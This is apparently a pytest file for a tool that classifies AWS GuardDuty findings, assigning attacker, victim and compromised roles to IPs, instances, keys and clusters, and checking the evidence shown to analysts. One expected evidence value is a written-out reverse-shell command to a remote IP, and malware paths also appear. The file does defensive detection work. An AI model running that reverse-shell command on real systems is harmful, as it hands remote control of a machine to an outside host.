"""Who is who in a GuardDuty finding: the role and network path of each party, decided by what the finding says
happened (direction, resourceRole, finding name, threat lists), never by the finding name alone; and the evidence a
human reads for each family."""

from __future__ import annotations

import json
from typing import Any

import pytest

from riposte import sources
from riposte.core.model import SIGNAL_THREAT_INTEL, Role
from tests.conftest import load_event, with_detail


def roles(raw: dict[str, Any], kind: str) -> list[tuple[str, str, bool]]:
    parties = sources.normalize(raw).entities.parties
    return [(p.value, str(p.role), p.network) for p in parties if p.kind == kind]


def _conn(raw: dict[str, Any]) -> dict[str, Any]:
    action: dict[str, Any] = raw["detail"]["service"]["action"]["networkConnectionAction"]
    return action


# --- network connections ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("direction", "resource_role", "remote", "instance"),
    [
        ("INBOUND", "TARGET", ("actor", True), "affected"),
        ("OUTBOUND", "TARGET", ("peer", True), "compromised"),
        ("UNKNOWN", "TARGET", ("peer", True), "affected"),
        (None, None, ("peer", True), "affected"),
        ("OUTBOUND", "ACTOR", ("victim", True), "compromised"),
        ("UNKNOWN", "ACTOR", ("victim", True), "compromised"),
        ("inbound", "actor", ("actor", True), "affected"),
        ("LOCAL", "TARGET", ("peer", True), "affected"),
    ],
)
def test_direction_and_resource_role_decide_who_is_hostile(
    direction: str | None, resource_role: str | None, remote: tuple[str, bool], instance: str
) -> None:
    # A type that says nothing about who attacks whom: direction and resourceRole alone decide.
    raw = with_detail(load_event("ssh_bruteforce_inbound.json"), type="UnauthorizedAccess:EC2/MaliciousIPCaller.Custom")
    _conn(raw)["connectionDirection"] = direction
    raw["detail"]["service"]["resourceRole"] = resource_role
    (ip,) = roles(raw, "ip")
    assert (ip[1], ip[2]) == remote
    assert [r for _, r, _ in roles(raw, "instance")] == [instance]


OUTBOUND_BY_DEFINITION = [
    "Backdoor:EC2/DenialOfService.Dns",
    "Backdoor:EC2/DenialOfService.Tcp",
    "Backdoor:EC2/DenialOfService.Udp",
    "Backdoor:EC2/DenialOfService.UdpOnTcpPorts",
    "Backdoor:EC2/DenialOfService.UnusualProtocol",
    "Backdoor:EC2/Spambot",
    "Impact:EC2/PortSweep",
    "Recon:EC2/Portscan",
]


@pytest.mark.parametrize("finding_type", OUTBOUND_BY_DEFINITION)
@pytest.mark.parametrize("direction", ["OUTBOUND", "INBOUND", "UNKNOWN", None])
@pytest.mark.parametrize("resource_role", ["TARGET", "ACTOR", None])
def test_a_type_where_our_resource_attacks_makes_the_remote_a_victim_whatever_role_or_direction(
    finding_type: str, direction: str | None, resource_role: str | None
) -> None:
    raw = with_detail(load_event("ec2_dos_victim_outbound.json"), type=finding_type)
    _conn(raw)["connectionDirection"] = direction
    raw["detail"]["service"]["resourceRole"] = resource_role
    assert [r for _, r, _ in roles(raw, "ip")] == ["victim"]
    assert [r for _, r, _ in roles(raw, "instance")] == ["compromised"]
    assert not sources.normalize(raw).entities.having("ip", Role.ACTOR)
    assert not sources.normalize(raw).entities.having("ip", Role.PEER)


@pytest.mark.parametrize(
    ("finding_type", "direction", "resource_role", "remote"),
    [
        # Brute force goes either way: resourceRole ACTOR, or an OUTBOUND connection, says it is ours that attacks.
        ("UnauthorizedAccess:EC2/SSHBruteForce", "OUTBOUND", "TARGET", "victim"),
        ("UnauthorizedAccess:EC2/RDPBruteForce", "OUTBOUND", None, "victim"),
        ("UnauthorizedAccess:EC2/SSHBruteForce", "UNKNOWN", "ACTOR", "victim"),
        ("UnauthorizedAccess:EC2/SSHBruteForce", "INBOUND", "TARGET", "actor"),
        ("UnauthorizedAccess:EC2/RDPBruteForce", "UNKNOWN", "TARGET", "peer"),
        ("Impact:EC2/WinRMBruteForce", "INBOUND", "TARGET", "actor"),  # our instance was the target
        ("Impact:EC2/WinRMBruteForce", "OUTBOUND", None, "victim"),
        ("Impact:EC2/WinRMBruteForce", "UNKNOWN", "ACTOR", "victim"),
        # A pool or C2 server our resource reaches is a hostile peer, not a victim.
        ("CryptoCurrency:EC2/BitcoinTool.B", "OUTBOUND", "TARGET", "peer"),
        ("CryptoCurrency:EC2/BitcoinTool.B!DNS", "OUTBOUND", None, "peer"),
        ("Trojan:EC2/BlackholeTraffic", "OUTBOUND", "TARGET", "peer"),
        ("Backdoor:EC2/C&CActivity.B", "OUTBOUND", None, "peer"),
        # Names that only look alike.
        ("Recon:EC2/PortProbeUnprotectedPort", "INBOUND", "TARGET", "actor"),
        ("Backdoor:EC2/DenialOfServiceX", "OUTBOUND", "TARGET", "peer"),
    ],
)
def test_only_the_attacking_families_make_the_remote_a_victim(
    finding_type: str, direction: str, resource_role: str | None, remote: str
) -> None:
    raw = with_detail(load_event("ec2_dos_victim_outbound.json"), type=finding_type)
    _conn(raw)["connectionDirection"] = direction
    raw["detail"]["service"]["resourceRole"] = resource_role
    assert [r for _, r, _ in roles(raw, "ip")] == [remote]


@pytest.mark.parametrize(
    ("finding_type", "instance"),
    [
        ("Backdoor:EC2/C&CActivity.B", "compromised"),
        ("CryptoCurrency:EC2/BitcoinTool.B", "compromised"),
        ("Trojan:EC2/BlackholeTraffic", "compromised"),
        ("UnauthorizedAccess:EC2/MaliciousIPCaller.Custom", "affected"),
        # Our instance relays Tor: the nodes that connect in are actors, and the instance runs a relay.
        ("UnauthorizedAccess:EC2/TorRelay", "compromised"),
        ("UnauthorizedAccess:EC2/TorClient", "affected"),
    ],
)
def test_an_inbound_connection_compromises_the_instance_only_when_the_finding_says_so(
    finding_type: str, instance: str
) -> None:
    raw = with_detail(load_event("ssh_bruteforce_inbound.json"), type=finding_type)
    assert [r for _, r, _ in roles(raw, "instance")] == [instance]
    assert [r for _, r, _ in roles(raw, "ip")] == ["actor"]


def test_an_unusual_behaviour_is_an_anomaly_not_a_compromise() -> None:
    raw = with_detail(load_event("c2_activity_outbound.json"), type="Behavior:EC2/NetworkPortUnusual")
    assert roles(raw, "instance") == [("i-0a1b2c3d4e5f60718", "affected", False)]
    # The remote is only unusual for our instance, not hostile: on the network path, never a block target.
    assert roles(raw, "ip") == [("91.240.118.77", "counterpart", True)]
    assert not sources.normalize(raw).entities.having("ip", Role.ACTOR, Role.PEER)


@pytest.mark.parametrize(
    ("finding_type", "direction", "remote", "instance"),
    [
        # Anomalies and unusual resolvers say nothing about the remote our resource reaches: never blocked.
        ("Behavior:EC2/TrafficVolumeUnusual", "OUTBOUND", "counterpart", "affected"),
        ("Behavior:EC2/NetworkPortUnusual", "UNKNOWN", "counterpart", "affected"),
        ("DefenseEvasion:EC2/UnusualDNSResolver", "OUTBOUND", "counterpart", "compromised"),
        ("DefenseEvasion:EC2/UnusualDoHActivity", "OUTBOUND", "counterpart", "compromised"),
        ("DefenseEvasion:EC2/UnusualDoTActivity", None, "counterpart", "affected"),
        # A remote that connects in still acts on us.
        ("Behavior:EC2/NetworkPortUnusual", "INBOUND", "actor", "affected"),
        # Other names are read as before: a host our instance reaches on a threat list is a hostile peer.
        ("UnauthorizedAccess:EC2/MaliciousIPCaller.Custom", "OUTBOUND", "peer", "compromised"),
        ("Backdoor:EC2/C&CActivity.B", "OUTBOUND", "peer", "compromised"),
    ],
)
def test_the_remote_of_an_anomaly_is_never_a_block_target(
    finding_type: str, direction: str | None, remote: str, instance: str
) -> None:
    raw = with_detail(load_event("c2_activity_outbound.json"), type=finding_type)
    _conn(raw)["connectionDirection"] = direction
    assert [(r, n) for _, r, n in roles(raw, "ip")] == [(remote, True)]
    assert [r for _, r, _ in roles(raw, "instance")] == [instance]


def test_both_addresses_of_a_dual_stack_remote_are_the_same_partys() -> None:
    event = sources.normalize(load_event("ec2_c2_outbound_dualstack.json"))
    assert event.entities.having("ip", Role.PEER, network=True) == ("185.156.73.54", "2a0d:5600:24:10::5")
    assert dict(event.evidence)["Remote IP"] == (
        "185.156.73.54 / 2a0d:5600:24:10::5 (AS64702 Stormline Networks SRL, Romania)"
    )


@pytest.mark.parametrize(("vpc", "network"), [({"vpcId": "vpc-0a1b2c3d4e5f60718"}, True), (None, False), ({}, False)])
def test_a_lambda_functions_traffic_crosses_our_acls_only_inside_a_vpc(vpc: Any, network: bool) -> None:
    raw = load_event("lambda_bitcoin_outbound.json")
    raw["detail"]["resource"]["lambdaDetails"]["vpcConfig"] = vpc
    for direction, role in (("OUTBOUND", "peer"), ("INBOUND", "actor")):
        _conn(raw)["connectionDirection"] = direction
        assert roles(raw, "ip") == [("91.240.118.172", role, network)]


def test_an_ecs_host_instance_is_compromised_with_its_cluster() -> None:
    raw = load_event("runtime_ecs_fargate_bitcoin.json")
    raw["detail"]["resource"]["instanceDetails"] = {"instanceId": "i-0c1d2e3f4a5b6c7d8"}
    assert roles(raw, "instance") == [("i-0c1d2e3f4a5b6c7d8", "compromised", False)]
    assert roles(raw, "cluster") == [("checkout-prod", "compromised", False)]


def test_port_probers_are_all_actors_on_the_network_path() -> None:
    raw = load_event("ec2_port_probe_three_remotes.json")
    assert roles(raw, "ip") == [
        ("185.156.72.41", "actor", True),
        ("193.32.162.38", "actor", True),
        ("2a0d:5600:24::1f", "actor", True),
    ]
    assert dict(sources.normalize(raw).evidence)["Probed ports"] == "22 (SSH), 3389 (RDP), 5432 (PostgreSQL)"


# --- API and Kubernetes callers ----------------------------------------------------------------------------------


def test_a_dual_stack_api_caller_is_an_actor_without_a_network_path() -> None:
    raw = load_event("iam_tor_caller_numeric_asn.json")
    raw["detail"]["service"]["action"]["awsApiCallAction"]["remoteIpDetails"]["ipAddressV6"] = "2a0d:5600:24::9"
    assert roles(raw, "ip") == [("185.220.101.133", "actor", False), ("2a0d:5600:24::9", "actor", False)]


@pytest.mark.parametrize(
    ("finding_type", "threat_listed", "key_role"),
    [
        ("UnauthorizedAccess:IAMUser/MaliciousIPCaller", False, "compromised"),
        ("UnauthorizedAccess:IAMUser/TorIPCaller", False, "compromised"),
        ("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", False, "compromised"),
        ("PenTest:IAMUser/KaliLinux", False, "compromised"),
        ("Discovery:IAMUser/AnomalousBehavior", False, "affected"),
        ("Discovery:IAMUser/AnomalousBehavior", True, "compromised"),
        ("Policy:IAMUser/RootCredentialUsage", False, "affected"),
    ],
)
def test_credentials_are_compromised_when_their_caller_is_known_hostile(
    finding_type: str, threat_listed: bool, key_role: str
) -> None:
    raw = with_detail(load_event("iam_instance_cred_exfil_outside_aws.json"), type=finding_type)
    if threat_listed:
        raw["detail"]["service"]["evidence"] = {"threatIntelligenceDetails": [{"threatListName": "ProofPoint"}]}
    assert roles(raw, "access_key") == [("ASIA4EXAMPLEKW3PQ9ZT", key_role, False)]
    assert roles(raw, "principal") == [("web-instance-role", key_role, False)]
    # The instance whose role credentials these are, named only by the role session.
    assert roles(raw, "instance") == [("i-0a1b2c3d4e5f60718", "affected", False)]


@pytest.mark.parametrize(
    ("details", "accounts", "shown"),
    [
        ({"accountId": "444455556666", "affiliated": False}, [("444455556666", "actor")], "outside your organization"),
        ({"accountId": "444455556666"}, [("444455556666", "actor")], "outside your organization"),
        ({"accountId": "444455556666", "affiliated": True}, [("444455556666", "affected")], "affiliated"),
        ({"accountId": "444455556666", "awsServiceName": "cloudformation.amazonaws.com"}, [], "AWS service"),
        ({"accountId": "123456789012", "affiliated": True}, [], None),
    ],
)
def test_a_foreign_caller_account_is_an_actor_and_ours_is_not(
    details: dict[str, Any], accounts: list[tuple[str, str]], shown: str | None
) -> None:
    raw = load_event("iam_malicious_ip_remote_account.json")
    raw["detail"]["service"]["action"]["awsApiCallAction"]["remoteAccountDetails"] = details
    assert [(v, r) for v, r, _ in roles(raw, "account")] == [("123456789012", "affected"), *accounts]
    caller = dict(sources.normalize(raw).evidence).get("Caller account")
    assert (shown in caller) if shown and caller else caller is shown


@pytest.mark.parametrize(
    ("finding_type", "bucket_role"),
    [("Exfiltration:S3/MaliciousIPCaller", "compromised"), ("Discovery:S3/MaliciousIPCaller", "affected")],
)
def test_a_bucket_is_compromised_when_it_is_being_exfiltrated(finding_type: str, bucket_role: str) -> None:
    raw = with_detail(load_event("s3_exfiltration_malicious_ip.json"), type=finding_type)
    assert roles(raw, "bucket") == [("acme-prod-customer-exports", bucket_role, False)]
    assert roles(raw, "access_key") == [("AKIA4EXAMPLEJ7Q2XRZD", "compromised", False)]


def test_kubernetes_callers_are_every_source_ip_without_a_network_path() -> None:
    raw = load_event("eks_audit_malicious_ip_sourceips.json")
    raw["detail"]["service"]["action"]["kubernetesApiCallAction"]["sourceIPs"] = ["10.0.0.23", "2a0d:5600:24::a"]
    assert roles(raw, "ip") == [
        ("2a03:b0c0:3:d0::1a2b:1", "actor", False),
        ("10.0.0.23", "actor", False),
        ("2a0d:5600:24::a", "actor", False),
    ]
    assert roles(raw, "cluster") == [("payments-prod", "affected", False)]
    assert roles(raw, "principal") == [
        ("kubernetes-admin", "compromised", False),
        ("ci-deployer", "compromised", False),
    ]


def test_an_invalid_kubernetes_source_ip_is_refused() -> None:
    raw = load_event("eks_audit_malicious_ip_sourceips.json")
    raw["detail"]["service"]["action"]["kubernetesApiCallAction"]["sourceIPs"] = ["10.0.0.23", "proxy"]
    with pytest.raises(sources.InputError, match=r"sourceIPs\.1: Value error, 'proxy' is not an IP address"):
        sources.normalize(raw)


# --- RDS, malware --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("finding_type", "db_role"),
    [
        ("CredentialAccess:RDS/MaliciousIPCaller.FailedLogin", "affected"),
        ("CredentialAccess:RDS/MaliciousIPCaller.SuccessfulLogin", "compromised"),
        ("CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce", "compromised"),
        ("CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin", "compromised"),  # threat-listed in the fixture
        ("Discovery:RDS/MaliciousIPCaller", "affected"),
    ],
)
def test_a_database_is_compromised_when_a_hostile_login_succeeded(finding_type: str, db_role: str) -> None:
    raw = with_detail(load_event("rds_malicious_ip_failed_login.json"), type=finding_type)
    assert roles(raw, "db_instance") == [("orders-aurora-instance-1", db_role, False)]
    assert roles(raw, "ip") == [("185.156.75.6", "actor", True)]


def test_an_anomalous_login_without_a_threat_list_leaves_the_database_affected() -> None:
    raw = with_detail(
        load_event("rds_malicious_ip_failed_login.json"), type="CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin"
    )
    raw["detail"]["service"]["evidence"] = None
    assert roles(raw, "db_instance") == [("orders-aurora-instance-1", "affected", False)]


def test_a_limitless_database_is_named_by_its_shard_group() -> None:
    raw = load_event("rds_malicious_ip_failed_login.json")
    resource = raw["detail"]["resource"]
    resource.pop("rdsDbInstanceDetails")
    resource["rdsLimitlessDbDetails"] = {"dbShardGroupIdentifier": "orders-shards", "engine": "Aurora PostgreSQL"}
    assert sources.normalize(raw).entities.db_instances == ("orders-shards",)


@pytest.mark.parametrize(
    ("finding_type", "role"),
    [("Execution:EC2/MaliciousFile", "compromised"), ("Execution:EC2/SuspiciousFile", "affected")],
)
def test_malware_on_an_instance_compromises_it_and_a_suspicious_file_does_not(finding_type: str, role: str) -> None:
    raw = with_detail(load_event("ec2_malware_ebs_scan.json"), type=finding_type)
    assert roles(raw, "instance") == [("i-0a1b2c3d4e5f60718", role, False)]


def test_a_finding_about_a_backup_names_no_live_resource() -> None:
    raw = load_event("backup_recovery_point_malware.json")
    raw["detail"]["resource"]["instanceDetails"] = {"instanceId": "i-0a1b2c3d4e5f60718"}
    assert sources.normalize(raw).entities.instances == ()
    raw["detail"]["type"] = "Execution:EC2/MaliciousFile"
    assert sources.normalize(raw).entities.instances == ("i-0a1b2c3d4e5f60718",)


# --- attack sequences ----------------------------------------------------------------------------------------


def _sequence(raw: dict[str, Any]) -> dict[str, Any]:
    sequence: dict[str, Any] = raw["detail"]["service"]["detection"]["sequence"]
    return sequence


@pytest.mark.parametrize(
    ("signal_type", "name", "network"),
    [
        ("FLOW_LOGS", "OutboundConnection", True),
        ("RUNTIME_MONITORING", "ProcessNetwork", True),
        ("FINDING", "Recon:EC2/PortProbeUnprotectedPort", True),
        ("FINDING", "CredentialAccess:RDS/TorIPCaller.FailedLogin", True),
        ("FINDING", "Backdoor:EC2/C&CActivity.B!DNS", False),
        ("FINDING", "UnauthorizedAccess:IAMUser/TorIPCaller", False),
        ("CLOUD_TRAIL", "ListUsers", False),
        ("S3_DATA_EVENTS", "GetObject", False),
        ("EKS_AUDIT_LOGS", "list", False),
        ("DNS_LOGS", "query", False),
    ],
)
def test_a_sequence_endpoint_is_on_the_network_path_only_when_a_network_signal_names_it(
    signal_type: str, name: str, network: bool
) -> None:
    raw = load_event("attack_sequence_iam_compromised_credentials.json")
    sequence = _sequence(raw)
    for signal in sequence["signals"]:
        signal.update(type=signal_type, name=name)
    assert roles(raw, "ip") == [("185.220.101.88", "actor", network), ("45.13.107.130", "actor", network)]


def test_an_endpoint_no_signal_names_is_never_on_the_network_path() -> None:
    raw = load_event("attack_sequence_ec2_compromised_instance_group.json")
    for signal in _sequence(raw)["signals"]:
        signal["endpointIds"] = []
    assert [n for _, _, n in roles(raw, "ip")] == [False, False]


def test_indicator_addresses_are_parties_without_a_network_path_and_other_values_are_ignored() -> None:
    raw = load_event("attack_sequence_s3_compromised_data.json")
    _sequence(raw)["sequenceIndicators"] = [
        {"key": "TOR_IP", "values": ["185.220.101.9", "not-an-ip", {"AnyCompany": ["TUNNEL_VPN"]}]},
        {"key": "CRYPTOMINING_IP", "values": ["45.13.104.77", "fe80::1%eth0"]},
        {"key": "HIGH_RISK_API", "values": ["193.32.162.1"]},
    ]
    event = sources.normalize(raw)
    assert roles(raw, "ip")[2:] == [("185.220.101.9", "actor", False), ("45.13.104.77", "peer", False)]
    assert SIGNAL_THREAT_INTEL in event.signals


def test_a_foreign_actor_account_is_an_actor_and_the_sequence_evidence_is_shown() -> None:
    raw = load_event("attack_sequence_iam_compromised_credentials.json")
    _sequence(raw)["actors"][0]["user"]["account"]["uid"] = "999988887777"
    assert [(v, r) for v, r, _ in roles(raw, "account")] == [("123456789012", "affected"), ("999988887777", "actor")]
    evidence = dict(sources.normalize(raw).evidence)
    assert evidence["Signals"].startswith("4: UnauthorizedAccess:IAMUser/TorIPCaller (x3), ListUsers")
    assert evidence["Actors"] == "IAMUser ci-deployer (AKIA4EXAMPLEJ7Q2XRZD, MFA disabled)"
    assert evidence["Tactics"] == "Discovery, Defense Evasion, Persistence, Privilege Escalation"


@pytest.mark.parametrize(
    ("fixture", "kinds"),
    [
        ("attack_sequence_iam_compromised_credentials.json", {"access_key": "compromised", "bucket": "affected"}),
        ("attack_sequence_s3_compromised_data.json", {"access_key": "compromised", "bucket": "compromised"}),
        ("attack_sequence_ec2_compromised_instance_group.json", {"instance": "compromised"}),
    ],
)
def test_a_sequences_type_says_which_resources_are_compromised(fixture: str, kinds: dict[str, str]) -> None:
    raw = load_event(fixture)
    for kind, role in kinds.items():
        assert {r for _, r, _ in roles(raw, kind)} == {role}, kind


@pytest.mark.parametrize("family", ["EKS", "ECS"])
def test_a_compromised_cluster_sequence_compromises_its_clusters_and_their_instances(family: str) -> None:
    raw = with_detail(
        load_event("attack_sequence_iam_compromised_credentials.json"),
        type=f"AttackSequence:{family}/CompromisedCluster",
    )
    resource_type, data_key = ("EKS_CLUSTER", "eksCluster") if family == "EKS" else ("ECS_CLUSTER", "ecsCluster")
    _sequence(raw)["resources"] = [
        {
            "uid": "arn:aws:eks:us-east-1:123456789012:cluster/payments-prod",
            "name": "payments-prod",
            "resourceType": resource_type,
            "data": {data_key: {"ec2InstanceUids": ["i-0e9d8c7b6a5f43210"]}},
        },
    ]
    assert roles(raw, "cluster") == [("payments-prod", "compromised", False)]
    assert roles(raw, "instance") == [("i-0e9d8c7b6a5f43210", "compromised", False)]


# --- evidence for each family ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fixture", "label", "value"),
    [
        ("eks_audit_malicious_ip_sourceips.json", "Cluster", "EKS payments-prod"),
        (
            "eks_audit_malicious_ip_sourceips.json",
            "Kubernetes API",
            "list /api/v1/namespaces/payments/secrets?limit=500 (200)",
        ),
        (
            "eks_audit_malicious_ip_sourceips.json",
            "Kubernetes user",
            "kubernetes-admin (groups: system:masters, system:authenticated)",
        ),
        ("eks_privileged_container_private_caller.json", "Workload", "pods argocd/debug-tools"),
        (
            "rds_malicious_ip_failed_login.json",
            "Database",
            "orders-aurora-instance-1 (Aurora PostgreSQL, cluster orders-aurora)",
        ),
        ("rds_malicious_ip_failed_login.json", "Database user", "postgres (database postgres, PASSWORD)"),
        ("rds_malicious_ip_failed_login.json", "Login attempts", "postgres: 412 failed, admin (psql): 37 failed"),
        ("runtime_ec2_reverse_shell.json", "Process", "bash (/usr/bin/bash, pid 23114, user www-data)"),
        ("runtime_ec2_reverse_shell.json", "Parent processes", "php-fpm8.1 < systemd"),
        ("runtime_ec2_reverse_shell.json", "Command line", "bash -c 'bash -i >& /dev/tcp/45.13.106.9/4444 0>&1'"),
        ("runtime_eks_node_new_binary.json", "Modified by", "curl (/usr/bin/curl, pid 30401, user root)"),
        ("runtime_ecs_fargate_bitcoin.json", "Cluster", "ECS checkout-prod"),
        ("s3_exfiltration_malicious_ip.json", "Bucket", "acme-prod-customer-exports (not public)"),
        ("s3_object_malicious_file.json", "Object", "incoming/invoice-88231.zip"),
        ("s3_object_malicious_file.json", "Malware", "EICAR-Test-File (Bitdefender)"),
        ("ec2_malware_ebs_scan.json", "Malware", "Trojan.Linux.Tsunami (high)"),
        ("ec2_malware_ebs_scan.json", "Malware files", "var/tmp/.x/kaiten"),
        ("backup_recovery_point_malware.json", "Backup vault", "prod-daily"),
        ("lambda_bitcoin_outbound.json", "Function", "invoice-renderer-prod (in vpc-0a1b2c3d4e5f60718)"),
        ("lambda_no_vpc_c2_outbound.json", "Function", "thumbnailer-prod (no VPC)"),
        ("iam_malicious_ip_remote_account.json", "Caller account", "444455556666 (outside your organization)"),
        ("iam_tor_caller_numeric_asn.json", "Remote IP", "185.220.101.133 (AS64708 Lindenhaus Relay e.V., Germany)"),
        ("ai_prompt_injection_direct.json", "Guardrail", "GUARDRAIL_INTERVENED on input (PROMPT_ATTACK BLOCKED)"),
        ("sample_tor_client.json", "Status", "sample finding"),
        ("archived_portscan_actor.json", "Status", "archived"),
        ("attack_sequence_ec2_compromised_instance_group.json", "Actors", "process xmrig (/tmp/.x/xmrig)"),
        ("ec2_dns_exfiltration.json", "Domain", "7hq2xk9v0m.r3lay-sync.top"),
    ],
)
def test_each_family_shows_its_evidence(fixture: str, label: str, value: str) -> None:
    assert dict(sources.normalize(load_event(fixture)).evidence)[label] == value


def test_membership_of_an_attack_sequence_and_a_custom_rule_are_shown() -> None:
    arn = "arn:aws:guardduty:us-east-1:123456789012:detector/d/finding/b7c41e0f2a9d4c58a3e6000000000012"
    raw = with_detail(load_event("c2_activity_outbound.json"), associatedAttackSequenceArn=arn)
    raw["detail"]["customDetectionRuleName"] = "c2-from-prod"
    evidence = dict(sources.normalize(raw).evidence)
    assert (evidence["Attack sequence"], evidence["Custom detection rule"]) == (arn, "c2-from-prod")


def test_evidence_keeps_its_reading_order() -> None:
    labels = [label for label, _ in sources.normalize(load_event("c2_activity_outbound.json")).evidence]
    assert labels == [
        "Finding type", "Instance", "Instance private IP", "Direction", "Local port", "Remote port",
        "Remote IP", "Threat list", "Count", "Last seen",
    ]  # fmt: skip


def test_long_attacker_controlled_text_is_clipped() -> None:
    raw = load_event("runtime_ec2_reverse_shell.json")
    raw["detail"]["service"]["runtimeDetails"]["context"]["commandLineExample"] = "x" * 5000
    line = dict(sources.normalize(raw).evidence)["Command line"]
    assert len(line) == 200
    assert line.endswith("…")


def test_many_remotes_are_summarised() -> None:
    raw = load_event("ec2_port_probe_three_remotes.json")
    details = raw["detail"]["service"]["action"]["portProbeAction"]["portProbeDetails"]
    template = json.dumps(details[0])
    details[:] = [json.loads(template.replace("185.156.72.41", f"185.156.72.{i}")) for i in range(1, 8)]
    event = sources.normalize(raw)
    assert len(event.entities.ips) == 7
    assert dict(event.evidence)["Remote IP"].endswith(" and 2 more")
